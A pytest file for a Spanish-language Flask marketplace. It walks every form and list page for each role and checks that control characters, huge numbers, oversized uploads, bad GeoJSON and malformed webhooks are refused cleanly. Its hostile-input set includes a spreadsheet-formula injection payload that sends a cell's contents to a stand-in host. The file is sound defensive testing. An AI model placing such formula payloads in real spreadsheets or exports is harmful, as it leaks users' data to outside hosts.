"""Hostile input is answered in Spanish, never with a 500: NUL and control characters, numbers
beyond 64 bits, far dates and spreadsheet formulas on every form and list page of every role;
page numbers, oversized uploads, GeoJSON numbers and signed-but-malformed webhooks.

Runs on SQLite and on PostgreSQL (which refuses NUL in text where SQLite stores it).
"""

from __future__ import annotations

import io
import json
import re
from html import unescape
from urllib.parse import urlencode, urlsplit

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select
from werkzeug.test import EnvironBuilder

from marketplace.credit import runs
from marketplace.forest.geometry import GeometryError, parse_geojson
from marketplace.models import Farm, StripeEvent
from tests import stripe_fake
from tests.conftest import signed_in_client

HOSTILE = {
    "nul": "a\x00b",
    "control": "a\x1bb\x7f",
    "huge": str(10**400),
    "far_past": "0001-01-01",
    "far_future": "9999-12-31",
    "formula": '=HYPERLINK("http://example.com/?"&A2,"Ver")',
}
ROLES = ["anonymous", "producer", "technician", "supplier", "buyer", "lender", "admin"]
#: Not walked: files, and what would end the walk (signing out).
NOT_WALKED = {"static", "auth.logout"}
CONTROL_MESSAGE = "El texto tiene caracteres no permitidos."
FORM = re.compile(r"<form\b([^>]*)>(.*?)</form>", re.S)
FIELD = re.compile(r"<(?:input|textarea|select)\b[^>]*\bname=\"([^\"]+)\"", re.S)


@pytest.fixture(autouse=True)
def runs_stay_queued(monkeypatch):
    """A walk that starts a matching run leaves it queued: a worker thread would outlive the
    test and fail on the next test's emptied tables."""
    monkeypatch.setattr(runs, "_start_thread", lambda run_id: None)


@pytest.fixture
def world(db, make_user, make_org, make_producer, make_farm, make_listing, make_commitment,
          make_center):  # fmt: skip
    """One user per role; the producer has a farm in the technician's cooperative; the
    supplier lists an input and the buyer posts a commitment, so their pages have forms."""
    coop = make_org("cooperative")
    users = {
        "producer": make_user("producer"),
        "technician": make_user("technician", organization=coop),
        "supplier": make_user("supplier"),
        "buyer": make_user("buyer"),
        "lender": make_user("lender"),
        "admin": make_user("admin"),
    }
    producer = make_producer(user_id=users["producer"].id, cooperative_id=coop.id)
    farm = make_farm(producer)
    make_center(coop)
    make_listing(org=users["supplier"].organization)
    make_commitment(org=users["buyer"].organization)
    return {"users": users, "producer": producer, "farm": farm}


def _pages(app: Flask, world: dict, role: str) -> list[str]:
    """Every GET page without URL parameters, and the producer's own record pages (the walk
    then follows their links)."""
    urls = sorted(
        rule.rule
        for rule in app.url_map.iter_rules()
        if "GET" in rule.methods and not rule.arguments and rule.endpoint not in NOT_WALKED
    )
    if role in ("producer", "technician"):
        producer, farm = world["producer"].id, world["farm"].id
        urls += [
            f"/productores/{producer}/editar",
            f"/productores/{producer}/fincas/nueva",
            f"/productores/{producer}/fincas/{farm}/editar",
            f"/fincas/{farm}/parcela",
        ]
    return urls


def _forms(url: str, page: str) -> list[tuple[str, str, list[str]]]:
    """(method, action, field names) of each form on a page, except signing out."""
    found = []
    for attributes, body in FORM.findall(page):
        action = re.search(r'\baction="([^"]*)"', attributes)
        target = unescape(action[1]) if action and action[1] else url
        if urlsplit(target).netloc or target.startswith("/salir"):
            continue
        method = re.search(r'\bmethod="([^"]*)"', attributes)
        names = sorted(set(FIELD.findall(body)) - {"csrf_token"})
        found.append(((method[1] if method else "get").upper(), target, names))
    return found


def _answer(client: FlaskClient, method: str, url: str, data: dict) -> int:
    """The status of one request; an exception escaping the app counts as a 500."""
    try:
        if method == "GET":
            separator = "&" if "?" in url else "?"
            return client.get(url + separator + urlencode(data)).status_code
        return client.post(url, data=data).status_code
    except Exception as error:  # noqa: BLE001 -- the test reports which input broke the app
        from marketplace.extensions import db

        db.session.rollback()
        return 500 if not isinstance(error, AssertionError) else 599


def _linked(app: Flask, page: str, seen: dict[str, int]) -> list[str]:
    """The local pages a page links to, at most two per endpoint over the walk."""
    adapter = app.url_map.bind("localhost")
    found = []
    for href in re.findall(r'\bhref="(/[^"#]*)"', page):
        url = unescape(href)
        try:
            endpoint, _ = adapter.match(urlsplit(url).path, method="GET")
        except Exception:  # noqa: BLE001 -- not a page of the app (or not a GET)
            continue
        if endpoint in NOT_WALKED or seen.get(endpoint, 0) >= 2:
            continue
        seen[endpoint] = seen.get(endpoint, 0) + 1
        found.append(url)
    return found


@pytest.mark.parametrize("role", ROLES)
def test_no_form_or_list_page_answers_500_to_hostile_input(app, world, role):
    client = signed_in_client(app, world["users"].get(role))
    failures = []
    queue = _pages(app, world, role)
    seen_endpoints: dict[str, int] = {}
    visited: set[str] = set()
    while queue:
        url = queue.pop(0)
        if url in visited:
            continue
        visited.add(url)
        response = client.get(url)
        if response.status_code >= 500:
            failures.append(("GET", url, "-", response.status_code))
        page = response.get_data(as_text=True) if response.mimetype == "text/html" else ""
        queue += _linked(app, page, seen_endpoints)  # the pages one click away too
        forms = _forms(url, page)
        for name, value in HOSTILE.items():
            status = _answer(client, "GET", url, {"q": value, "page": value})
            if status >= 500:
                failures.append(("GET", url, name, status))
            for method, target, fields in forms:
                status = _answer(client, method, target, dict.fromkeys(fields, value))
                if status >= 500:
                    failures.append((method, target, name, status))
    assert failures == []


@pytest.mark.parametrize("value", ["a\x00b", "\x00", "a\x1bb", "a\x7fb", "a\x85b"])
def test_a_search_with_control_characters_is_refused_in_spanish(client, db, value):
    response = client.get("/catalogo", query_string={"q": value})
    assert response.status_code == 400
    assert CONTROL_MESSAGE in response.get_data(as_text=True)


def test_the_sign_in_identifier_with_a_nul_is_refused_in_spanish(client, db, make_user):
    user = make_user("producer")
    response = client.post("/ingresar", data={"identifier": user.login + "\x00", "password": "x"})
    assert response.status_code == 400
    assert CONTROL_MESSAGE in response.get_data(as_text=True)


def test_a_farm_name_with_a_nul_is_refused_and_nothing_is_saved(app, db, world):
    client = signed_in_client(app, world["users"]["producer"])
    farm = world["farm"]
    url = f"/productores/{world['producer'].id}/fincas/{farm.id}/editar"
    response = client.post(url, data={"name": "Mi\x00finca"})
    assert response.status_code == 400
    assert CONTROL_MESSAGE in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(Farm, farm.id).name == "La Esperanza"


def test_tabs_and_newlines_in_text_still_pass(client, db):
    response = client.get("/catalogo", query_string={"q": "cacao\tfino\r\nmás"})
    assert response.status_code == 200


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("3", 3),
        ("0", 1),
        ("-5", 1),
        ("abc", 1),
        ("", 1),
        ("٣", 1),  # an Arabic-Indic digit is not a page number here
        (str(2**64), "last"),
        (str(10**400), "last"),
        ("9" * 5000, "last"),  # longer than int() reads
    ],
)
def test_the_page_number_is_bounded(app, raw, expected):
    from marketplace import web

    with app.test_request_context("/", query_string={"page": raw}):
        assert web.page_number() == (web.MAX_PAGE if expected == "last" else expected)


@pytest.mark.parametrize("page", [str(2**64), str(10**400), "-1", "-99999999999999999999999"])
def test_list_pages_answer_a_page_beyond_64_bits(app, world, page):
    for role, url in [
        ("anonymous", "/catalogo"),
        ("admin", "/admin/usuarios"),
        ("admin", "/admin/auditoria"),
        ("technician", "/productores"),
        ("producer", "/pedidos"),
        ("producer", "/avisos"),
    ]:
        client = signed_in_client(app, world["users"].get(role))
        assert client.get(url, query_string={"page": page}).status_code == 200, (role, url)


def _oversized_upload(client: FlaskClient, url: str) -> int:
    data = {"upload": (io.BytesIO(b" " * (3 * 1024 * 1024)), "finca.geojson")}
    builder = EnvironBuilder(path=url, method="POST", data=data)
    environ = builder.get_environ()
    try:
        return client.open(environ).status_code
    finally:
        environ["wsgi.input"].close()
        builder.close()


@pytest.mark.parametrize("role", ["anonymous", "supplier", "buyer", "lender"])
def test_an_oversized_upload_to_a_plot_the_visitor_may_not_see_is_a_plain_413(app, world, role):
    client = signed_in_client(app, world["users"].get(role))
    status = _oversized_upload(client, f"/fincas/{world['farm'].id}/parcela")
    assert status == 413
    assert _oversized_upload(client, "/fincas/999999/parcela") == 413


@pytest.mark.parametrize(
    "coordinate",
    [str(10**400), "-" + str(10**400), "NaN", "Infinity", "-Infinity", "1e400"],
)
def test_a_geojson_coordinate_beyond_a_float_is_refused(coordinate):
    ring = f"[[{coordinate}, 1], [0, 1], [1, 1], [{coordinate}, 1]]"
    with pytest.raises(GeometryError) as refused:
        parse_geojson(f'{{"type": "Polygon", "coordinates": [{ring}]}}')
    assert refused.value.code == "bad_coordinates"


def test_an_upload_with_a_400_digit_coordinate_gets_a_message(app, world):
    client = signed_in_client(app, world["users"]["producer"])
    huge = str(10**400)
    geojson = f'{{"type":"Polygon","coordinates":[[[{huge},1],[0,1],[1,1],[{huge},1]]]}}'
    response = client.post(
        f"/fincas/{world['farm'].id}/parcela",
        data={"upload": (io.BytesIO(geojson.encode()), "finca.geojson")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200
    assert world["farm"].polygon_geojson is None


@pytest.mark.parametrize(
    "payload",
    [
        [],
        "evento",
        42,
        None,
        {},
        {"data": "x"},
        {"id": "evt_1"},
        {"id": "evt_1", "type": "checkout.session.completed"},
        {"id": "evt_1", "type": "checkout.session.completed", "data": "x"},
        {"id": "evt_1", "type": "checkout.session.completed", "data": {"object": []}},
        {"id": "evt_1", "type": "checkout.session.completed", "data": {"object": {"id": 5}}},
        {"id": 7, "type": "checkout.session.completed", "data": {"object": {"id": "cs_1"}}},
        {"id": "evt_1", "type": ["x"], "data": {"object": {"id": "cs_1"}}},
    ],
)
def test_a_signed_but_malformed_webhook_is_refused_and_changes_nothing(db, client, stripe, payload):
    body = json.dumps(payload).encode()
    response = client.post(
        "/stripe/webhook",
        data=body,
        headers={"Stripe-Signature": stripe_fake.sign(body)},
        content_type="application/json",
    )
    assert response.status_code == 400
    assert db.session.scalar(select(func.count(StripeEvent.id))) == 0


def test_a_signed_body_that_is_not_utf8_is_refused(db, client, stripe):
    body = b'{"id": "\xff"}'
    response = client.post(
        "/stripe/webhook",
        data=body,
        headers={"Stripe-Signature": stripe_fake.sign(body)},
        content_type="application/json",
    )
    assert response.status_code == 400
